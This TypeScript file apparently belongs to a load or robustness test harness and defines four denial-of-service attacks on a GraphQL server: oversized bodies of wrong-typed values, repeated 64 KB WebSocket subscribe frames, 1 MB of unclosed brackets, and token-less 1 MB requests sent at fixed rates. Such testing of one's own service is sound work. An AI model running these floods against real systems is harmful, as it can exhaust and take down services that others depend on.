/** Attacks by what a body holds: values that are wrong half a million times, brackets without an end, no token. */
import type { Attack } from './attack';
import { keepSocket, textFrame } from './hostile-socket';
import { atRate, inParallel } from './pace';
import { operation, sendRequest } from './send-request';

const MEGABYTE = 1_048_576;
const ROOM_OF_QUERY = 200;
const MOST_OF_A_MESSAGE = 65_536;
const QUERY = 'query ($codes: [String!]!) { progressOf(organizations: $codes) { planned } }';

/** As many numbers as fit into so many bytes, where codes are asked for. */
const wrongValues = (bytes: number): object => ({
  codes: Array<number>(Math.floor((bytes - ROOM_OF_QUERY) / 2)).fill(1),
});

export const BODIES: readonly Attack[] = [
  {
    name: 'wrong values',
    what: 'a body of 1 MB with half a million wrong values of one list, one after another',
    begin: (target) => {
      const body = Buffer.from(operation(QUERY, wrongValues(MEGABYTE)));
      inParallel(target, 1, () => sendRequest(target, { body }));
    },
  },
  {
    name: 'wrong values by WebSocket',
    what: 'ten messages of 64 KB like that at once, every second',
    begin: (target) =>
      void keepSocket(target, 'token', (socket) => {
        const payload = { query: QUERY, variables: wrongValues(MOST_OF_A_MESSAGE) };
        const frames = Array.from({ length: 10 }, (_, id) => textFrame({ type: 'subscribe', id: `${id}`, payload }));
        atRate(socket, 1, () => {
          for (const frame of frames) socket.write(frame);
        });
      }),
  },
  {
    name: 'brackets',
    what: 'a body of 1 MB of opening brackets, four a second',
    begin: (target) => {
      const body = Buffer.alloc(MEGABYTE, '[');
      atRate(target, 4, () => void sendRequest(target, { body }));
    },
  },
  {
    name: 'bodies without a token',
    what: 'a body of 1 MB, right but for the token, ten a second',
    begin: (target) => {
      const body = Buffer.from(operation('{ __typename }', wrongValues(MEGABYTE)));
      atRate(target, 10, () => void sendRequest(target, { body, token: null }));
    },
  },
];
